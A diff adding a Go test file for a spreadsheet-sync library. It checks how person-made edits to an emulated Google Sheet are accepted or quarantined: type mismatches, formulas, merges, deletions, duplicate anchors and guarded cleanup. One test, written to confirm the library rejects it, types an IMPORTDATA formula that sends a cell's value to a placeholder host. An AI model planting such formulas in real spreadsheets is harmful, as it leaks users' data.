@@ -1,0 +1,744 @@
+package hikoutei
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"io"
+	"log/slog"
+	"net/http/httptest"
+	"os"
+	"strconv"
+	"testing"
+	"time"
+
+	"github.com/hikoutei/hikoutei-go/aggregates"
+	"github.com/hikoutei/hikoutei-go/effects"
+	"github.com/hikoutei/hikoutei-go/events"
+	"github.com/hikoutei/hikoutei-go/projector"
+	"github.com/hikoutei/hikoutei-go/sheetsio"
+	"github.com/hikoutei/hikoutei-go/sheetsio/emulator"
+	"github.com/hikoutei/hikoutei-go/sheetsio/layout"
+)
+
+// Part has a system-owned name and three user-owned fields: its Input tab
+// is id, sku, qty, notes, __hikoutei_row_id (columns A–E).
+type Part struct {
+	ID    string `hikoutei:"id,pk"`
+	Name  string `hikoutei:"name"`
+	SKU   string `hikoutei:"sku,user"`
+	Qty   int64  `hikoutei:"qty,user"`
+	Notes string `hikoutei:"notes,user"`
+}
+
+const partInput = "Part_Input"
+
+// inboundWaiters is how many clock timers the inbound poller holds while
+// idle (its single loop), for tests that count the workers' waiters.
+func inboundWaiters(s *Store) int {
+	if s.Poller() != nil {
+		return 1
+	}
+	return 0
+}
+
+// openInbound opens a Manual-mode synced store (as openSynced) declaring
+// the given entities (default: Part).
+func openInbound(t testing.TB, dir string, defs []EntityDef, tune ...func(*SyncOptions)) *synced {
+	t.Helper()
+	if defs == nil {
+		defs = []EntityDef{Entity[Part]("Part")}
+	}
+	emu := emulator.New(emulator.Options{AutoCreate: true})
+	srv := httptest.NewServer(emu.Handler())
+	t.Cleanup(srv.Close)
+	return openInboundOn(t, dir, emu, srv.URL, defs, tune...)
+}
+
+// openInboundOn is openInbound against an existing emulator (restarts).
+func openInboundOn(t testing.TB, dir string, emu *emulator.Emulator, url string, defs []EntityDef, tune ...func(*SyncOptions)) *synced {
+	t.Helper()
+	if defs == nil {
+		defs = []EntityDef{Entity[Part]("Part")}
+	}
+	prov, err := sheetsio.New(ctx, sheetsio.Config{Endpoint: url, Pacing: sheetsio.Pacing{ReadInterval: -1, WriteInterval: -1},
+		Backoff:   sheetsio.Backoff{Initial: time.Millisecond, Max: 4 * time.Millisecond, Attempts: 3},
+		LookupEnv: func(string) (string, bool) { return "", false }, RequestTimeout: 5 * time.Second})
+	mustT(t, err)
+	so := SyncOptions{SpreadsheetID: sheetID, Manual: true, ProbeDelay: 10 * time.Second, MaxProbes: 3, Provider: prov,
+		LookupEnv: func(string) (string, bool) { return "", false }}
+	for _, f := range tune {
+		f(&so)
+	}
+	clock := events.NewManualClock(t0)
+	s, err := Open(dir, Options{Clock: clock, HeartbeatInterval: -1, AcquireWait: -1, Sync: &so, LeaseTTL: testLeaseTTL,
+		Logger: slog.New(slog.NewTextHandler(io.Discard, nil))}, defs...)
+	mustT(t, err)
+	t.Cleanup(func() { s.Close() })
+	disp, err := s.Provision(ctx)
+	mustT(t, err)
+	tt, _ := t.(*testing.T)
+	return &synced{Store: s, t: tt, emu: emu, prov: prov, clock: clock, disp: disp}
+}
+
+func (x *synced) poll() effects.PollResult {
+	x.t.Helper()
+	r, err := x.Poller().Poll(ctx)
+	if err != nil {
+		x.t.Fatalf("poll: %v", err)
+	}
+	return r
+}
+
+func (x *synced) fullScan() effects.PollResult {
+	x.t.Helper()
+	r, err := x.Poller().FullScan(ctx)
+	if err != nil {
+		x.t.Fatalf("full scan: %v", err)
+	}
+	return r
+}
+
+// typeIn types text (USER_ENTERED, as a person) into column of the Input
+// row whose anchor is anchor.
+func (x *synced) typeIn(anchor, column, text string) {
+	x.t.Helper()
+	mustT(x.t, x.emu.Person(sheetID).Type(partInput, x.cellRef(partInput, anchor, column), text))
+}
+
+func (x *synced) part(id string) *Part {
+	x.t.Helper()
+	p, err := Get[Part](ctx, x.Store, id)
+	mustT(x.t, err)
+	return p
+}
+
+// quarantine returns the active evidence reasons of a tab by anchor.
+func (x *synced) quarantine(tab string) map[string][]string {
+	out := map[string][]string{}
+	mustT(x.t, x.onWriter(func() error {
+		q, err := x.proj.ActiveQuarantine(tab)
+		for _, r := range q {
+			out[r.Anchor] = append(out[r.Anchor], r.Reason)
+		}
+		return err
+	}))
+	return out
+}
+
+func (x *synced) sheetField(tab, anchor, field string) projector.SheetField {
+	var f projector.SheetField
+	mustT(x.t, x.onWriter(func() error {
+		m, err := x.proj.SheetFields(layout.RowBindingID(tab, anchor))
+		f = m[field]
+		return err
+	}))
+	return f
+}
+
+// eventTypes lists the types of the events appended after seq.
+func (x *synced) eventTypes(after uint64) map[string]int {
+	out := map[string]int{}
+	mustT(x.t, x.Log().ReadFrom(after+1, func(e events.Event) error { out[e.Type]++; return nil }))
+	return out
+}
+
+func (x *synced) head() uint64 {
+	h, err := x.Log().Head()
+	mustT(x.t, err)
+	return h
+}
+
+func seedParts(t testing.TB, x *synced, n int) {
+	t.Helper()
+	u := x.Begin()
+	for i := 1; i <= n; i++ {
+		mustT(t, u.Persist(&Part{ID: strconv.Itoa(i), Name: "part " + strconv.Itoa(i), SKU: fmt.Sprintf("%05d", i), Qty: int64(i)}))
+	}
+	_, err := u.Commit(ctx)
+	mustT(t, err)
+	x.drain()
+}
+
+func TestInboundAcceptedEditIsCanonicalInOneCommitAndNotEchoed(t *testing.T) {
+	x := openInbound(t, t.TempDir(), nil)
+	seedParts(t, x, 3)
+	if r := x.poll(); r.Escalated != 0 || r.Certified != 1 {
+		t.Fatalf("unchanged tab escalated: %+v", r)
+	}
+	x.typeIn("2", "notes", "checked by Ana")
+	x.typeIn("2", "qty", "7")
+	before := x.head()
+	r := x.poll()
+	if r.Escalated != 1 || r.Stats.Accepted != 1 {
+		t.Fatalf("edit poll %+v", r)
+	}
+	var commits = map[string]bool{}
+	mustT(t, x.Log().ReadFrom(before+1, func(e events.Event) error {
+		if e.Type == aggregates.TypeEntityPersisted || e.Type == aggregates.TypeObservationAccepted {
+			commits[e.Commit] = true
+		}
+		return nil
+	}))
+	if len(commits) != 1 {
+		t.Fatalf("entity.persisted and observation.accepted in %d commits", len(commits))
+	}
+	if p := x.part("2"); p.Notes != "checked by Ana" || p.Qty != 7 || p.Name != "part 2" {
+		t.Fatalf("entity after the edit: %+v", p)
+	}
+	fs, _ := x.fieldState("Part", "2")
+	if fs.Fields["qty"].Revision != 2 || fs.Fields["notes"].Revision != 2 {
+		t.Fatalf("revisions %+v", fs.Fields)
+	}
+	x.emu.ResetCounters()
+	x.drain()
+	if x.cellOf("Part_System", "2", "qty") != "7" || x.cellOf("Part_System", "2", "notes") != "checked by Ana" {
+		t.Fatalf("system row %v", x.rowOf("Part_System", "2"))
+	}
+	var inputFx int
+	mustT(t, x.onWriter(func() error {
+		rows, err := x.proj.InState("sheets", "applied", time.Time{}, 1000)
+		for _, r := range rows {
+			if r.Tab == partInput && r.Op != aggregates.OpAppend {
+				inputFx++
+			}
+		}
+		return err
+	}))
+	if inputFx != 0 {
+		t.Fatalf("the accepted edit was echoed to the Input tab (%d effects)", inputFx)
+	}
+	if r := x.poll(); r.Escalated != 0 {
+		t.Fatalf("after the accepted edit the tab is still uncertified: %+v", r)
+	}
+}
+
+func TestInboundUnchangedSpreadsheetWithTenInputTabsCostsOneRead(t *testing.T) {
+	x := openInbound(t, t.TempDir(), tenEntities())
+	u := x.Begin()
+	for i := range 10 {
+		mustT(t, u.Persist(tenEntity(i, "1")))
+		mustT(t, u.Persist(tenEntity(i, "2")))
+	}
+	_, err := u.Commit(ctx)
+	mustT(t, err)
+	x.drain()
+	x.poll() // the first pass may enumerate to learn the sheetIds
+	x.emu.ResetCounters()
+	r := x.poll()
+	c := x.emu.Counters(sheetID)
+	if r.Tabs != 10 || r.Certified != 10 || c.Reads != 1 || c.Writes != 0 {
+		t.Fatalf("unchanged pass over %d tabs: certified %d, %d reads, %d writes", r.Tabs, r.Certified, c.Reads, c.Writes)
+	}
+	// One edited tab escalates alone: one values read + one grid read pass.
+	mustT(t, x.emu.Person(sheetID).Type("T3_Input", "B2", "edited"))
+	x.emu.ResetCounters()
+	r = x.poll()
+	c = x.emu.Counters(sheetID)
+	if r.Escalated != 1 || c.Reads != 3 || c.Writes != 0 {
+		t.Fatalf("one edited tab: %+v, %d reads %d writes", r, c.Reads, c.Writes)
+	}
+}
+
+type (
+	T0 struct {
+		ID   string `hikoutei:"id,pk"`
+		Note string `hikoutei:"note,user"`
+	}
+	T1 T0
+	T2 T0
+	T3 T0
+	T4 T0
+	T5 T0
+	T6 T0
+	T7 T0
+	T8 T0
+	T9 T0
+)
+
+func tenEntities() []EntityDef {
+	return []EntityDef{Entity[T0]("T0"), Entity[T1]("T1"), Entity[T2]("T2"), Entity[T3]("T3"), Entity[T4]("T4"),
+		Entity[T5]("T5"), Entity[T6]("T6"), Entity[T7]("T7"), Entity[T8]("T8"), Entity[T9]("T9")}
+}
+
+func tenEntity(i int, id string) any {
+	v := T0{ID: id, Note: "n" + id}
+	switch i {
+	case 1:
+		return &[]T1{T1(v)}[0]
+	case 2:
+		return &[]T2{T2(v)}[0]
+	case 3:
+		return &[]T3{T3(v)}[0]
+	case 4:
+		return &[]T4{T4(v)}[0]
+	case 5:
+		return &[]T5{T5(v)}[0]
+	case 6:
+		return &[]T6{T6(v)}[0]
+	case 7:
+		return &[]T7{T7(v)}[0]
+	case 8:
+		return &[]T8{T8(v)}[0]
+	case 9:
+		return &[]T9{T9(v)}[0]
+	}
+	return &v
+}
+
+func TestI20_PollingCadenceEnvAcceptsOnlyPlainPositiveDecimalIntegers(t *testing.T) {
+	for _, bad := range []string{"0x10", "1e3", "+100", "-100", "1.5", " 100", "100 ", "0", "00100", "9007199254740992", "１００", "10_000", "abc"} {
+		for _, env := range []string{EnvPollingInterval, EnvFullScanInterval} {
+			_, err := Open(t.TempDir(), Options{Clock: events.NewManualClock(t0), HeartbeatInterval: -1, AcquireWait: -1,
+				Sync: &SyncOptions{SpreadsheetID: sheetID, Provider: &sheetsio.Provider{}, Manual: true,
+					LookupEnv: func(k string) (string, bool) { return bad, k == env }}}, Entity[Part]("Part"))
+			if !errors.Is(err, ErrSyncStartup) || err.Error()[:len("sync_startup_failed")] != "sync_startup_failed" {
+				t.Fatalf("%s=%q: Open returned %v, want sync_startup_failed", env, bad, err)
+			}
+		}
+	}
+	for _, tc := range []struct {
+		env, val string
+		opt      time.Duration
+		want     time.Duration
+	}{{"", "", 0, 60 * time.Second}, {EnvPollingInterval, "", 0, 60 * time.Second}, {EnvPollingInterval, "1500", 0, 1500 * time.Millisecond},
+		{EnvPollingInterval, "86400000", 0, 24 * time.Hour}, {EnvPollingInterval, "0x10", 5 * time.Second, 5 * time.Second}} {
+		o := SyncOptions{PollingInterval: tc.opt, LookupEnv: func(k string) (string, bool) { return tc.val, k == tc.env }}
+		if err := resolveCadence(&o); err != nil || o.PollingInterval != tc.want || o.FullScanInterval != DefaultFullScanInterval {
+			t.Fatalf("%s=%q option %v: %v, got %v / %v", tc.env, tc.val, tc.opt, err, o.PollingInterval, o.FullScanInterval)
+		}
+	}
+}
+
+// rowNumber is the 1-based sheet row showing anchor on the Input tab.
+func (x *synced) rowNumber(anchor string) int {
+	x.t.Helper()
+	for i, r := range x.rows(partInput) {
+		if len(r) > 0 && r[len(r)-1] == anchor {
+			return i + 1
+		}
+	}
+	x.t.Fatalf("no row for anchor %s", anchor)
+	return 0
+}
+
+func hasReason(reasons []string, want string) bool {
+	for _, r := range reasons {
+		if r == want {
+			return true
+		}
+	}
+	return false
+}
+
+func TestC01_LeadingZerosPollBackAsTextAndANumberInATextColumnIsQuarantined(t *testing.T) {
+	x := openInbound(t, t.TempDir(), nil)
+	commit(t, x.Store, &Part{ID: "1", SKU: "00123"}, &Part{ID: "2", SKU: "00456"})
+	x.drain()
+	if r := x.fullScan(); r.Stats.Accepted+r.Stats.Quarantined+r.Stats.Candidates != 0 {
+		t.Fatalf("text \"00123\" read back as an edit: %+v", r.Stats)
+	}
+	x.typeIn("2", "sku", "123") // USER_ENTERED: the number 123
+	r := x.poll()
+	q := x.quarantine(partInput)
+	if r.Stats.Quarantined != 1 || !hasReason(q["2"], "cell_type_mismatch") {
+		t.Fatalf("poll %+v, quarantine %v", r.Stats, q)
+	}
+	if p := x.part("2"); p.SKU != "00456" {
+		t.Fatalf("the malformed cell reached SQLite: sku %q", p.SKU)
+	}
+	x.emu.ResetCounters()
+	if r := x.poll(); r.Escalated != 0 || x.emu.Counters(sheetID).Reads != 1 {
+		t.Fatalf("recorded evidence re-escalated: %+v", r)
+	}
+	x.typeIn("2", "sku", "'00789") // a person fixes it as text: an edit, and the evidence clears
+	x.poll()
+	if p := x.part("2"); p.SKU != "00789" || len(x.quarantine(partInput)["2"]) != 0 {
+		t.Fatalf("after the fix: %+v, quarantine %v", p, x.quarantine(partInput))
+	}
+}
+
+func TestC03_FormulaMergeAndErrorCellsAreQuarantinedNeverImported(t *testing.T) {
+	x := openInbound(t, t.TempDir(), nil)
+	seedParts(t, x, 4)
+	// A formula computing exactly the shown value passes the values-only
+	// preflight; the safety full scan finds it.
+	mustT(t, x.emu.Person(sheetID).TypeFormula(partInput, x.cellRef(partInput, "4", "qty"), "=2+2"))
+	if r := x.poll(); r.Escalated != 0 {
+		t.Fatalf("values preflight: %+v", r)
+	}
+	x.fullScan()
+	if q := x.quarantine(partInput); !hasReason(q["4"], "cell_formula") {
+		t.Fatalf("full scan missed the formula: %v", q)
+	}
+	mustT(t, x.emu.Person(sheetID).TypeFormula(partInput, x.cellRef(partInput, "1", "notes"), `=IMPORTDATA("https://example.invalid/?x="&B2)`))
+	mustT(t, x.emu.Person(sheetID).TypeFormula(partInput, x.cellRef(partInput, "2", "qty"), "=1/0"))
+	mustT(t, x.emu.Person(sheetID).Merge(partInput, fmt.Sprintf("C%d:D%d", x.rowNumber("3"), x.rowNumber("3"))))
+	x.poll()
+	q := x.quarantine(partInput)
+	if !hasReason(q["1"], "cell_formula") || !hasReason(q["2"], "cell_formula") || !hasReason(q["3"], "cell_merged") {
+		t.Fatalf("quarantine %v", q)
+	}
+	for _, id := range []string{"1", "2", "3"} {
+		if p := x.part(id); p.Notes != "" || p.Qty != mustAtoi(id) {
+			t.Fatalf("part %s imported a computed value: %+v", id, p)
+		}
+	}
+}
+
+func mustAtoi(s string) int64 { n, _ := strconv.Atoi(s); return int64(n) }
+
+func TestC04_BlankIsAnEditOnlyOverANonEmptyValueAndAnEmptyTabIsFlagged(t *testing.T) {
+	x := openInbound(t, t.TempDir(), nil)
+	commit(t, x.Store, &Part{ID: "7", Notes: "Bolt"}, &Part{ID: "8", Notes: ""}, &Part{ID: "9", Notes: "n"})
+	x.drain()
+	x.typeIn("7", "notes", "") // non-empty → blank: an edit
+	x.typeIn("8", "notes", "") // blank → blank: nothing
+	r := x.poll()
+	if r.Stats.Accepted != 1 || x.part("7").Notes != "" || x.part("9").Notes != "n" {
+		t.Fatalf("blank edits %+v: %+v", r.Stats, x.part("7"))
+	}
+	x.drain()
+	// A person types a short row with no anchor: padded, evidence, no insert.
+	mustT(t, x.emu.Person(sheetID).Type(partInput, "A20", "'10"))
+	x.poll()
+	if q := x.quarantine(partInput); !hasReason(q[""], ReasonRowWithoutAnchor) {
+		t.Fatalf("anchor-less row evidence %v", q)
+	}
+	if _, err := Get[Part](ctx, x.Store, "10"); !errors.Is(err, ErrNotFound) {
+		t.Fatalf("an anchor-less row became an entity: %v", err)
+	}
+	// The whole tab suddenly reads empty: flagged once, nothing applied row by row.
+	mustT(t, x.emu.Person(sheetID).DeleteRows(partInput, 2, 19))
+	before := x.head()
+	r = x.poll()
+	types := x.eventTypes(before)
+	q := x.quarantine(partInput)
+	if !hasReason(q[""], ReasonMassDeletion) || len(q["7"])+len(q["8"])+len(q["9"]) != 0 || types[aggregates.TypeEntityPersisted]+types[aggregates.TypeEntityRemoved] != 0 {
+		t.Fatalf("empty tab: quarantine %v, events %v", q, types)
+	}
+	for _, id := range []string{"7", "8", "9"} {
+		x.part(id)
+	}
+	x.emu.ResetCounters()
+	if r := x.poll(); r.Escalated != 0 || x.emu.Counters(sheetID).Reads != 1 {
+		t.Fatalf("flagged empty tab re-escalated: %+v", r)
+	}
+}
+
+func TestC05_DuplicatedHeaderBlocksTheTabStrayColumnsAreIgnored(t *testing.T) {
+	x := openInbound(t, t.TempDir(), nil)
+	seedParts(t, x, 2)
+	mustT(t, x.emu.Person(sheetID).Type(partInput, "H5", "x")) // stray beyond the header
+	x.typeIn("1", "notes", "kept")
+	r := x.poll()
+	if r.Stats.Accepted != 1 || x.part("1").Notes != "kept" {
+		t.Fatalf("a stray cell blocked the tab: %+v", r.Stats)
+	}
+	x.drain()
+	x.typeIn("2", "notes", "while blocked")
+	mustT(t, x.emu.Person(sheetID).Type(partInput, "D1", "qty")) // header id,sku,qty,qty,…
+	before := x.head()
+	x.poll()
+	if q := x.quarantine(partInput); !hasReason(q[""], ReasonTabBlocked) || x.part("2").Notes != "" {
+		t.Fatalf("blocked tab: quarantine %v, part %+v, events %v", q, x.part("2"), x.eventTypes(before))
+	}
+	mustT(t, x.emu.Person(sheetID).Type(partInput, "D1", "notes"))
+	x.poll()
+	if q := x.quarantine(partInput); len(q[""]) != 0 || x.part("2").Notes != "while blocked" {
+		t.Fatalf("after the header fix: quarantine %v, part %+v", q, x.part("2"))
+	}
+}
+
+func TestC06_SortIsNotAnEditAndADeletedRowIsEvidenceOfThatKeyOnly(t *testing.T) {
+	x := openInbound(t, t.TempDir(), nil)
+	seedParts(t, x, 5)
+	p4 := x.part("4")
+	p4.Qty = 44
+	commit(t, x.Store, p4) // pending while the person sorts
+	mustT(t, x.emu.Person(sheetID).SortByColumn(partInput, "A", true, 1))
+	before := x.head()
+	if r := x.poll(); r.Escalated != 0 || x.head() != before {
+		t.Fatalf("a sort was seen as a change: %+v %v", r, x.eventTypes(before))
+	}
+	x.drain()
+	if x.cellOf(partInput, "4", "qty") != "44" || x.cellOf(partInput, "4", "id") != "4" || x.cellOf(partInput, "3", "qty") != "3" {
+		t.Fatalf("after the sort the update landed elsewhere: %v", x.rows(partInput))
+	}
+	p4.Qty = 45
+	commit(t, x.Store, p4)
+	mustT(t, x.emu.Person(sheetID).DeleteRows(partInput, x.rowNumber("2"), 1))
+	before = x.head()
+	r := x.poll()
+	types := x.eventTypes(before)
+	q := x.quarantine(partInput)
+	if !hasReason(q["2"], ReasonRowDeleted) || types[aggregates.TypeEntityRemoved]+types[aggregates.TypeEntityPersisted] != 0 || r.Stats.Accepted != 0 {
+		t.Fatalf("deleted row: quarantine %v, events %v", q, types)
+	}
+	x.drain()
+	if x.part("2") == nil || x.cellOf(partInput, "4", "qty") != "45" || x.cellOf(partInput, "3", "qty") != "3" || x.cellOf(partInput, "1", "qty") != "1" {
+		t.Fatalf("neighbours touched: %v", x.rows(partInput))
+	}
+	if r := x.poll(); r.Escalated != 0 {
+		t.Fatalf("recorded deletion re-escalated: %+v", r)
+	}
+}
+
+func TestC11_NFDRetypeIsNotAnEditAndEdgeWhitespaceKeysAreMalformed(t *testing.T) {
+	x := openInbound(t, t.TempDir(), nil)
+	commit(t, x.Store, &Part{ID: "00123", Notes: "Café"}, &Part{ID: "2", Notes: "x"})
+	x.drain()
+	x.typeIn("00123", "notes", "Cafe\u0301")
+	before := x.head()
+	x.poll()
+	x.fullScan()
+	if x.head() != before || x.part("00123").Notes != "Café" {
+		t.Fatalf("an NFD retype was an edit: %v", x.eventTypes(before))
+	}
+	x.typeIn("2", "id", "' 00123") // the key of a bound row, retyped with edge space
+	mustT(t, x.emu.Person(sheetID).Type(partInput, "A10", "'00123 "))
+	mustT(t, x.emu.Person(sheetID).Type(partInput, "D10", "new"))
+	x.poll()
+	q := x.quarantine(partInput)
+	if !hasReason(q["2"], "cell_edge_whitespace") || !hasReason(q[""], ReasonRowWithoutAnchor) {
+		t.Fatalf("quarantine %v", q)
+	}
+	all, _ := Find[Part](ctx, x.Store)
+	if n := len(all); n != 2 || x.part("00123").Notes != "Café" || x.part("2").Notes != "x" {
+		t.Fatalf("edge-whitespace keys matched or created records: %d parts", n)
+	}
+}
+
+func TestI16_DuplicateAnchorsFailClosedIntoQuarantine(t *testing.T) {
+	x := openInbound(t, t.TempDir(), nil)
+	seedParts(t, x, 3)
+	at, err := x.emu.Person(sheetID).PasteRow(partInput, x.rowNumber("2"))
+	mustT(t, err)
+	mustT(t, x.emu.Person(sheetID).Type(partInput, fmt.Sprintf("D%d", at), "copy edited"))
+	x.poll()
+	q := x.quarantine(partInput)
+	if len(q["2"]) != 2 || !hasReason(q["2"], ReasonDuplicateAnchor) || x.part("2").Notes != "" {
+		t.Fatalf("duplicate anchors: quarantine %v, part %+v", q, x.part("2"))
+	}
+	x.typeIn("3", "notes", "other rows still work")
+	x.poll()
+	if x.part("3").Notes != "other rows still work" {
+		t.Fatal("a duplicate blocked the other rows")
+	}
+}
+
+func TestC02_InexactBigIntegerIsQuarantinedNeverOverwritesSQLite(t *testing.T) {
+	x := openInbound(t, t.TempDir(), nil)
+	commit(t, x.Store, &Part{ID: "1", Qty: 1234567890123456789})
+	x.drain()
+	if r := x.fullScan(); r.Stats.Accepted+r.Stats.Quarantined != 0 {
+		t.Fatalf("a big integer written as text read back as a change: %+v", r.Stats)
+	}
+	x.typeIn("1", "qty", "1234567890123456800") // a number: cannot be the exact integer
+	x.poll()
+	if q := x.quarantine(partInput); !hasReason(q["1"], "cell_not_exact_integer") || x.part("1").Qty != 1234567890123456789 {
+		t.Fatalf("quarantine %v, qty %d", q, x.part("1").Qty)
+	}
+}
+
+func TestI21_CleanupDeletesOnlyUnambiguousOrphansByFullRowCAS(t *testing.T) {
+	x := openInbound(t, t.TempDir(), nil, func(o *SyncOptions) { o.ReconcileInterval = 30 * time.Second })
+	seedParts(t, x, 3)
+	// Part 2 is removed while a person edits its Input row: the guarded
+	// delete is not made and the row carries a person's data.
+	x.typeIn("2", "notes", "do not lose me")
+	u := x.Begin()
+	mustT(t, u.Remove(&Part{ID: "2"}))
+	_, err := u.Commit(ctx)
+	mustT(t, err)
+	x.drain()
+	mustT(t, x.emu.Person(sheetID).Type(partInput, "A10", "'zz")) // a person's row with an unknown anchor
+	mustT(t, x.emu.Person(sheetID).Type(partInput, "E10", "'zz"))
+	n, err := x.Poller().Cleanup(ctx)
+	if err != nil || n != 0 || x.rowOf(partInput, "2") == nil {
+		t.Fatalf("cleanup of an ambiguous orphan: %d %v", n, err)
+	}
+	// The person clears the note: the row is exactly what the system wrote.
+	x.typeIn("2", "notes", "")
+	n, err = x.Poller().Cleanup(ctx)
+	if err != nil || n != 1 {
+		t.Fatalf("cleanup of an unambiguous orphan: %d %v", n, err)
+	}
+	var expected string
+	mustT(t, x.onWriter(func() error {
+		rows, err := x.proj.InState("sheets", "pending", time.Time{}, 10)
+		for _, r := range rows {
+			if r.Op == aggregates.OpDelete && r.Anchor == "2" {
+				expected = r.ExpectedHash
+			}
+		}
+		return err
+	}))
+	if expected == "" {
+		t.Fatal("the cleanup delete is not guarded by a full-row hash")
+	}
+	// CAS: a person touches the row before the delete lands — it stays.
+	x.typeIn("2", "sku", "'again")
+	x.drain()
+	if x.rowOf(partInput, "2") == nil {
+		t.Fatal("the cleanup delete ignored its full-row guard")
+	}
+	x.typeIn("2", "sku", "'00002")
+	if n, _ := x.Poller().Cleanup(ctx); n != 1 {
+		t.Fatalf("second cleanup queued %d", n)
+	}
+	x.drain()
+	if x.rowOf(partInput, "2") != nil || x.rowOf(partInput, "zz") == nil || x.rowOf(partInput, "1") == nil || x.rowOf(partInput, "3") == nil {
+		t.Fatalf("after cleanup: %v", x.rows(partInput))
+	}
+}
+
+func TestI21_CleanupRunsOnItsOwnScheduleInThePollerLoop(t *testing.T) {
+	x := openInbound(t, t.TempDir(), nil, func(o *SyncOptions) {
+		o.ReconcileInterval, o.PollingInterval, o.FullScanInterval = 30*time.Second, time.Hour, time.Hour
+	})
+	seedParts(t, x, 1)
+	p := x.Poller()
+	runCtx, cancel := context.WithCancel(ctx)
+	done := make(chan error, 1)
+	go func() { done <- p.Run(runCtx) }()
+	waitFor := func(cond func() bool) {
+		t.Helper()
+		for {
+			_, changed := x.clock.Waiters() // before the check: no missed change
+			if cond() {
+				return
+			}
+			select {
+			case <-changed:
+			case <-time.After(10 * time.Second):
+				t.Fatal("timed out")
+			}
+		}
+	}
+	waitFor(func() bool { n, _ := x.clock.Waiters(); return n >= 1 })
+	x.clock.Advance(30 * time.Second)
+	waitFor(func() bool { n, _ := x.clock.Waiters(); return p.C.Cleanups.Load() == 1 && n >= 1 })
+	if p.C.Passes.Load() != 0 || p.C.FullScans.Load() != 0 {
+		t.Fatalf("passes %d, full scans %d before their cadence", p.C.Passes.Load(), p.C.FullScans.Load())
+	}
+	cancel()
+	if err := <-done; err != nil {
+		t.Fatal(err)
+	}
+}
+
+// BenchmarkPollInputTab polls one Input tab of HIKOUTEI_BENCH_INBOUND_ROWS
+// rows (default 2000) against the emulator: "unchanged" is the one-read
+// certified pass; "100_edits" escalates and accepts 100 edited rows per
+// pass (the edits are typed with the timer stopped).
+func BenchmarkPollInputTab(b *testing.B) {
+	rows := 2000
+	if v, err := strconv.Atoi(os.Getenv("HIKOUTEI_BENCH_INBOUND_ROWS")); err == nil && v > 100 {
+		rows = v
+	}
+	x := openInbound(b, b.TempDir(), nil, func(o *SyncOptions) { o.MaxBatch = 5000 })
+	u := x.Begin()
+	for i := 1; i <= rows; i++ {
+		mustT(b, u.Persist(&Part{ID: strconv.Itoa(i), Name: "part", SKU: fmt.Sprintf("%05d", i), Qty: int64(i)}))
+	}
+	_, err := u.Commit(ctx)
+	mustT(b, err)
+	for range 10 {
+		if _, err := x.disp.Pass(ctx); err != nil {
+			b.Fatal(err)
+		}
+	}
+	if _, err := x.Poller().Poll(ctx); err != nil {
+		b.Fatal(err)
+	}
+	b.Run("unchanged", func(b *testing.B) {
+		b.ReportAllocs()
+		for b.Loop() {
+			r, err := x.Poller().Poll(ctx)
+			if err != nil || r.Escalated != 0 {
+				b.Fatalf("%+v %v", r, err)
+			}
+		}
+	})
+	b.Run("100_edits", func(b *testing.B) {
+		b.ReportAllocs()
+		person := x.emu.Person(sheetID)
+		n := 0
+		for b.Loop() {
+			b.StopTimer()
+			n++
+			for i := range 100 {
+				mustT(b, person.Type(partInput, fmt.Sprintf("D%d", 2+(i*rows/100)), fmt.Sprintf("edit %d", n)))
+			}
+			b.StartTimer()
+			r, err := x.Poller().Poll(ctx)
+			if err != nil || r.Stats.Accepted != 100 {
+				b.Fatalf("%+v %v", r, err)
+			}
+		}
+	})
+}
+
+func TestInboundPollerRunsNextToTheDispatcherWhenNotManual(t *testing.T) {
+	emu := emulator.New(emulator.Options{AutoCreate: true})
+	srv := httptest.NewServer(emu.Handler())
+	t.Cleanup(srv.Close)
+	prov, err := sheetsio.New(ctx, sheetsio.Config{Endpoint: srv.URL, Pacing: sheetsio.Pacing{ReadInterval: -1, WriteInterval: -1},
+		LookupEnv: func(string) (string, bool) { return "", false }})
+	mustT(t, err)
+	clock := events.NewManualClock(t0)
+	s, err := Open(t.TempDir(), Options{Clock: clock, HeartbeatInterval: -1, AcquireWait: -1, LeaseTTL: testLeaseTTL,
+		NATS: &NATSOptions{Disabled: true}, Logger: slog.New(slog.NewTextHandler(io.Discard, nil)),
+		Sync: &SyncOptions{SpreadsheetID: sheetID, Provider: prov, Interval: time.Second, ReconcileInterval: time.Hour,
+			PollingInterval: 5 * time.Second, FullScanInterval: time.Hour, LookupEnv: func(string) (string, bool) { return "", false }}},
+		Entity[Part]("Part"))
+	mustT(t, err)
+	t.Cleanup(func() { s.Close() })
+	// pump advances the manual clock each time a worker waits, until cond.
+	pump := func(what string, cond func() bool) {
+		t.Helper()
+		deadline := time.After(20 * time.Second)
+		for {
+			_, changed := clock.Waiters()
+			if cond() {
+				return
+			}
+			select {
+			case <-changed:
+			case <-deadline:
+				t.Fatalf("timed out waiting for %s", what)
+			}
+			clock.Advance(time.Second)
+		}
+	}
+	commit(t, s, &Part{ID: "1", Name: "auto"})
+	pump("the rows appended", func() bool {
+		r, _ := emu.Person(sheetID).Displayed(partInput)
+		return len(r) == 2
+	})
+	mustT(t, emu.Person(sheetID).Type(partInput, "D2", "typed while running"))
+	pump("the edit accepted", func() bool {
+		p, err := Get[Part](ctx, s, "1")
+		return err == nil && p.Notes == "typed while running"
+	})
+	if s.Poller() == nil || s.Poller().C.Passes.Load() == 0 {
+		t.Fatal("the poller did not run")
+	}
+}
+
+func TestInboundEditsOfTheKeyOrTheAnchorAreEvidenceNotData(t *testing.T) {
+	x := openInbound(t, t.TempDir(), nil)
+	seedParts(t, x, 3)
+	x.typeIn("1", "id", "'99")                // the key of a bound row
+	x.typeIn("3", layout.AnchorHeader, "'3x") // the anchor
+	r := x.poll()
+	q := x.quarantine(partInput)
+	if !hasReason(q["1"], ReasonKeyEdited) || !hasReason(q["3x"], ReasonUnknownAnchor) || !hasReason(q["3"], ReasonRowDeleted) || r.Stats.Accepted != 0 {
+		t.Fatalf("poll %+v, quarantine %v", r.Stats, q)
+	}
+	all, _ := Find[Part](ctx, x.Store)
+	if len(all) != 3 || x.part("1").Name != "part 1" {
+		t.Fatalf("entities after key/anchor edits: %d", len(all))
+	}
+}
